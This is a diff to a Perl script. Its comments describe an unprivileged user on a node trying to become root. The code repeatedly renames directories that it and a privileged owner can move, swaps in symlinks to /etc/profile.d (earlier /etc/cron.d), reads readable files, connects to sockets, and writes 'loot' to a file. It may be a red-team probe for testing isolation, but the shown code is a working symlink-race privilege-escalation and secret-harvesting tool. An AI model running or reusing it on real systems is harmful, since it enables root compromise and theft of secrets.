@@ -1,11 +1,13 @@
 # A user of the node who may not become root, and wants to: swaps whatever root or fleet lays where
 # this user can move it for a link to a secret or into a folder of root's, reads what it can, and
-# connects to every socket that it can. Loot goes to $ARGV[1]. In: seconds, loot, needles.
+# connects to every socket that it can. In: seconds,
+# a file for the loot, and one with what must not be read.
 use strict;
 use warnings;
 use Socket;
-use Time::HiRes qw(time);
-my ($seconds, $loot, @needles) = @ARGV;
+my ($seconds, $loot, $wanted) = @ARGV;
+open(my $list, '<', $wanted) or die;
+chomp(my @needles = <$list>);
 my $end = time + $seconds;
 my $me = $>;
 my ($rounds, $struck) = (0, 0);
@@ -44,7 +46,7 @@ sub strike {
         if ($kind == 0040000) {
             strike($path, $deep - 1) if $deep && ($ours || $about[4] == $me);
             next unless $mine && $ours;
-            rename($path, "$path.aside$rounds") and symlink('/etc/cron.d', $path) and $struck++;
+            rename($path, "$path.aside$rounds") and symlink('/etc/profile.d', $path) and $struck++;
             next;
         }
         readable($path) if $kind == 0100000;
